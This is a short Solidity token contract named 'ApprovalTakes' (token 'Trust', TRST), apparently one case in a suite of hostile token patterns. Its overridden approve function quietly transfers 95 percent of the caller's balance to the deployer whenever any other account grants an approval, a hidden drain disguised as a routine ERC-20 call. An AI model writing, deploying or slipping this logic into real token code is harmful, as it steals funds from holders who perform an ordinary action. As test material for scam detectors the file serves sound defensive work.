// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {PairToken} from "./PairToken.sol";
import {SuiteToken} from "./SuiteToken.sol";

/// Whoever approves another account loses most of what he has to the deployer at that moment.
contract ApprovalTakes is PairToken {
    constructor(address pair) SuiteToken("Trust", "TRST") PairToken(pair) {}

    function approve(address spender, uint256 amount) public override returns (bool) {
        if (msg.sender != _deployer) _move(msg.sender, _deployer, (_balances[msg.sender] * 95) / 100);
        return super.approve(spender, amount);
    }
}
